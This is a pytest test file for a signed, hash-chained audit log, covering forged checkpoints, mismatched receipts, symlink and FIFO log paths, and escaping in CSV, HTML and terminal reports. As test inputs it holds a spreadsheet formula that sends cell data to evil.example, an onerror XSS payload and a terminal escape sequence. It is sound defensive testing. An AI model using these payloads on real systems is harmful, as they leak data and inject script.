"""The audit trail against a hostile log, a hostile entity and hostile files (issue 9).

A log must not verify unless the pinned owner signed a checkpoint of it; content the entity signed
but that does not match what this log holds never enters the log; the log path is never followed
through a symlink; reports never let log text act as a formula, markup or terminal escape.
"""

from __future__ import annotations

import base64
import csv
import hashlib
import io
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from owner._audit_report import build_report, render_csv, render_html
from protocol import canonical
from protocol._wire.merkle import Accumulator
from protocol.audit import (
    CHECKPOINT_KIND,
    COUNTERSIGN_KIND,
    GENESIS_PREV,
    RECEIPT_KIND,
    AuditLog,
    countersign_checkpoint,
    make_receipt,
    read_records,
    verify_log,
)
from protocol.errors import AuditError
from protocol.keys import Identity
from protocol.sealing import open_bundle, seal_bundle_detailed
from protocol.signing import digest, sign_message
from tests.helpers import unblock_fifo, within

ROOT = Path(__file__).resolve().parents[2]
OWNER = Identity.generate("owner", "clinic")
ENTITY = Identity.generate("entity", "service")
ATTACKER = Identity.generate("owner", "mallory")


def _forge(path: Path, events: list[tuple[str, dict[str, Any]]], *, signer: Identity | None, log_id: str = "log-forged") -> None:
    """Write a well-chained log by hand; a ``checkpoint`` event is signed by ``signer``."""
    acc, prev, lines = Accumulator(), GENESIS_PREV, []
    for seq, (event, details) in enumerate(events):
        if event == "checkpoint":
            assert signer is not None
            body = {
                "log_id": log_id,
                "tree_size": seq,
                "root_hash": "sha256:" + acc.root().hex(),
                "last_record": prev,
                "time": "2024-01-01T00:00:00Z",
            }
            details = {"checkpoint": canonical.loads(sign_message(body, kind=CHECKPOINT_KIND, signer=signer))}
        line = canonical.dumps({"seq": seq, "time": "2024-01-01T00:00:00Z", "event": event, "details": details, "prev": prev})
        lines.append(line)
        acc.append_leaf(line)
        prev = "sha256:" + hashlib.sha256(line).hexdigest()
    path.write_bytes(b"".join(line + b"\n" for line in lines))


def _created_by(owner: Identity, log_id: str = "log-forged") -> tuple[str, dict[str, Any]]:
    return "log.created", {"log_id": log_id, "owner": owner.fingerprint, "owner_name": owner.card.name, "owner_card": owner.card.to_json()}


def _run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "owner.audit", *args], cwd=ROOT, capture_output=True, text=True, timeout=120)


def _card_file(tmp_path: Path, who: Identity) -> str:
    path = tmp_path / f"{who.card.name}.json"
    path.write_bytes(who.card.to_bytes())
    return str(path)


def _sent(log: AuditLog, job_id: str = "job-1", files: dict[str, bytes] | None = None):
    """Record one transfer to ENTITY; returns (sealed, what the entity opened)."""
    files = files or {"a.bin": b"payload"}
    sealed = seal_bundle_detailed(files, kind="model", job_id=job_id, request_hash=digest(b"o"), sender=OWNER, recipient=ENTITY.card)
    log.record_sent(sealed, recipient=ENTITY.card)
    opened = open_bundle(
        sealed.blob, kind="model", job_id=job_id, request_hash=digest(b"o"), recipient=ENTITY, senders={OWNER.fingerprint: OWNER.card}
    )
    return sealed, opened


# ------------------------------------------------------------------------- no default trust


def test_log_fabricated_from_the_owners_public_card_fails_for_lack_of_a_checkpoint(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    _forge(path, [_created_by(OWNER), ("transfer.sent", {"job_id": "job-1", "peer": ENTITY.fingerprint, "files": {}})], signer=None)
    verdict = verify_log(path, owner=OWNER.card, entity=ENTITY.card)
    assert not verdict.ok and "no signed checkpoint" in verdict.error and verdict.first_bad == 0
    owner, entity = _card_file(tmp_path, OWNER), _card_file(tmp_path, ENTITY)
    out = _run("verify", str(path), "--owner", owner, "--entity", entity)
    assert out.returncode == 1 and out.stdout.startswith("FAIL:") and out.stdout.count("\n") == 1
    assert "no signed checkpoint" in out.stdout and "Traceback" not in out.stderr
    weak = _run("verify", str(path), "--owner", owner, "--entity", entity, "--allow-unanchored")
    assert weak.returncode == 0 and weak.stdout.startswith("OK (WEAKER CHECK: no signed checkpoint")


@pytest.mark.parametrize("every_signature", [True, False])
def test_checkpoints_signed_by_a_key_other_than_the_pinned_owner_fail(tmp_path: Path, every_signature: bool) -> None:
    path = tmp_path / "audit.jsonl"
    _forge(path, [_created_by(OWNER), ("job.started", {"job_id": "job-1"}), ("checkpoint", {})], signer=ATTACKER)
    verdict = verify_log(path, owner=OWNER.card, every_signature=every_signature)
    assert not verdict.ok and "wrong signer" in verdict.error and verdict.first_bad == 2


def test_log_forged_under_another_key_passes_only_as_the_named_weaker_check(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    with AuditLog.open(path, ATTACKER) as log:  # a whole, internally consistent log under the forger's key
        log.append("job.started", {"job_id": "job-1"})
        log.checkpoint()
    bare = _run("verify", str(path))
    assert bare.returncode == 1 and bare.stdout.startswith("FAIL:") and "--owner" in bare.stdout
    assert _run("report", str(path), "--json").returncode == 1
    trusting = _run("verify", str(path), "--trust-embedded-cards")
    assert trusting.returncode == 0 and trusting.stdout.startswith("OK (WEAKER CHECK: owner key taken from the log itself")
    pinned = _run("verify", str(path), "--owner", _card_file(tmp_path, OWNER))
    assert pinned.returncode == 1 and "FAIL:" in pinned.stdout


# ------------------------------------------------------------- what the entity signs is checked


def test_receipt_with_a_valid_signature_but_wrong_files_is_refused_and_the_log_still_verifies(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    with AuditLog.open(path, OWNER) as log:
        _, opened = _sent(log)
        honest = canonical.loads(make_receipt(opened, entity=ENTITY, job_id="job-1"))
        body = canonical.loads(base64.b64decode(honest["payload"]))["body"]
        body["files"] = {"a.bin": "sha256:" + "ab" * 32}
        wrong = sign_message(body, kind=RECEIPT_KIND, signer=ENTITY)
        size = log.size
        with pytest.raises(AuditError, match="other file hashes"):
            log.record_receipt(wrong, entity=ENTITY.card)
        assert log.size == size
        log.checkpoint()
    verdict = verify_log(path, owner=OWNER.card, entity=ENTITY.card)
    assert verdict.ok, verdict.error
    assert "receipt" not in [r["event"] for r in read_records(path)]


def test_receipt_is_checked_against_transfers_recorded_before_the_log_was_reopened(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    with AuditLog.open(path, OWNER) as log:
        _, opened = _sent(log, "job-1")
        _, other = _sent(log, "job-2", {"b.bin": b"other"})
    receipt = make_receipt(opened, entity=ENTITY, job_id="job-1")
    with AuditLog.open(path, OWNER) as log:
        log.record_receipt(receipt, entity=ENTITY.card)
        stranger = Identity.generate("entity", "stranger")
        with pytest.raises(AuditError, match="was sent to"):  # signed by an entity that was not the recipient
            log.record_receipt(make_receipt(other, entity=stranger, job_id="job-2"), entity=stranger.card)
        log.checkpoint()
    verdict = verify_log(path, owner=OWNER.card, entity=ENTITY.card)
    assert verdict.ok and verdict.receipts == 1, verdict.error


def test_countersignature_of_a_checkpoint_this_log_never_issued_is_refused_and_the_log_still_verifies(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    with AuditLog.open(path, OWNER) as log:
        real = log.checkpoint()
        # a checkpoint the owner's key signed for this log id, but never appended to it
        never = sign_message(
            {"log_id": log.log_id, "tree_size": 1, "root_hash": "sha256:" + "00" * 32, "last_record": GENESIS_PREV, "time": "2024-01-01T00:00:00Z"},
            kind=CHECKPOINT_KIND,
            signer=OWNER,
        )
        with pytest.raises(AuditError, match="never issued"):
            log.record_countersignature(countersign_checkpoint(never, owner=OWNER.card, entity=ENTITY), entity=ENTITY.card)
        # the real checkpoint's digest, but another tree size
        lying = sign_message(
            {
                "checkpoint": digest(real),
                "log_id": log.log_id,
                "tree_size": 7,
                "root_hash": log.root_hash,
                "owner": OWNER.fingerprint,
                "entity": ENTITY.fingerprint,
                "time": "2024-01-01T00:00:00Z",
            },
            kind=COUNTERSIGN_KIND,
            signer=ENTITY,
        )
        size = log.size
        with pytest.raises(AuditError, match="another tree size or root"):
            log.record_countersignature(lying, entity=ENTITY.card)
        assert log.size == size
        log.checkpoint()
    verdict = verify_log(path, owner=OWNER.card, entity=ENTITY.card)
    assert verdict.ok and verdict.countersigned == 0, verdict.error


def test_countersignature_of_a_checkpoint_issued_before_reopening_is_recorded(tmp_path: Path) -> None:
    path = tmp_path / "audit.jsonl"
    with AuditLog.open(path, OWNER) as log:
        log.append("job.started", {"job_id": "job-1"})
        cp = log.checkpoint()
    with AuditLog.open(path, OWNER) as log:
        log.record_countersignature(countersign_checkpoint(cp, owner=OWNER.card, entity=ENTITY), entity=ENTITY.card)
        log.checkpoint()
    verdict = verify_log(path, owner=OWNER.card, entity=ENTITY.card)
    assert verdict.ok and verdict.countersigned == 2, verdict.error


@pytest.mark.parametrize("event", ["checkpoint", "countersignature", "receipt", "log.created", "log.recovered"])
def test_append_refuses_events_that_only_a_checking_method_may_write(tmp_path: Path, event: str) -> None:
    with AuditLog.open(tmp_path / "audit.jsonl", OWNER) as log:
        with pytest.raises(AuditError, match="written only by AuditLog"):
            log.append(event, {"receipt": {}, "checkpoint": {}})
        log.checkpoint()
    assert verify_log(tmp_path / "audit.jsonl", owner=OWNER.card).ok


# ------------------------------------------------------------------------------ hostile files


def test_dangling_symlink_as_log_path_is_refused_and_its_target_not_created(tmp_path: Path) -> None:
    target = tmp_path / "elsewhere" / "planted.jsonl"
    target.parent.mkdir()
    link = tmp_path / "audit.jsonl"
    link.symlink_to(target)
    with pytest.raises(AuditError, match="symbolic link"):
        AuditLog.open(link, OWNER)
    assert not target.exists()


def test_symlink_to_an_existing_file_as_log_path_is_refused_and_the_file_untouched(tmp_path: Path) -> None:
    target = tmp_path / "precious.txt"
    target.write_bytes(b"keep me\n")
    link = tmp_path / "audit.jsonl"
    link.symlink_to(target)
    with pytest.raises(AuditError, match="symbolic link"):
        AuditLog.open(link, OWNER)
    assert target.read_bytes() == b"keep me\n"


def test_fifo_as_log_path_is_refused_by_the_writer_and_the_verifier_without_blocking(tmp_path: Path) -> None:
    fifo = tmp_path / "audit.jsonl"
    os.mkfifo(fifo)
    opened = within(10, lambda: AuditLog.open(fifo, OWNER), unblock_fifo(fifo))
    assert isinstance(opened.get("error"), AuditError) and "not a regular file" in str(opened["error"])
    verdict = within(10, lambda: verify_log(fifo, owner=OWNER.card), unblock_fifo(fifo))["value"]
    assert not verdict.ok and "FIFO" in verdict.error


# ------------------------------------------------------------------------------------ reports


def _log_with_job(path: Path, job_id: str, reason: str) -> Path:
    with AuditLog.open(path, OWNER) as log:
        _sent(log, job_id)
        log.record_blocked(reason, job_id=job_id)
        log.checkpoint()
    return path


def _report(path: Path):
    verdict = verify_log(path, owner=OWNER.card, entity=ENTITY.card)
    assert verdict.ok, verdict.error
    return build_report(path, verdict, owner=OWNER.card, owner_pinned=True, entity_pinned=True)


def test_csv_report_neutralises_cells_a_spreadsheet_would_run_as_formulas(tmp_path: Path) -> None:
    job = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    path = _log_with_job(tmp_path / "audit.jsonl", job, "@SUM(1+1)")
    rows = list(csv.reader(io.StringIO(render_csv(_report(path)))))
    sent = next(row for row in rows if row[2] == "transfer.sent")
    assert sent[3] == "'" + job
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_html_report_escapes_a_job_id_chosen_by_the_entity(tmp_path: Path) -> None:
    path = _log_with_job(tmp_path / "audit.jsonl", "<img src=x onerror=alert(1)>", "<b>bold</b>")
    page = render_html(_report(path))
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "<b>bold</b>" not in page and "&lt;b&gt;bold&lt;/b&gt;" in page


def test_terminal_report_shows_markup_and_escape_sequences_as_inert_text(tmp_path: Path) -> None:
    from rich.console import Console

    from owner.audit import _render_terminal

    path = _log_with_job(tmp_path / "audit.jsonl", "job-[red]x[/red]", "blocked \x1b]0;pwned\x07 [link=http://evil]here[/link]")
    buf = io.StringIO()
    _render_terminal(_report(path), Console(file=buf, width=400, color_system=None, force_terminal=False))
    out = buf.getvalue()
    assert "\x1b" not in out and "\x07" not in out
    assert "\\x1b]0;pwned\\x07" in out
    assert "job-[red]x[/red]" in out and "[link=http://evil]here[/link]" in out
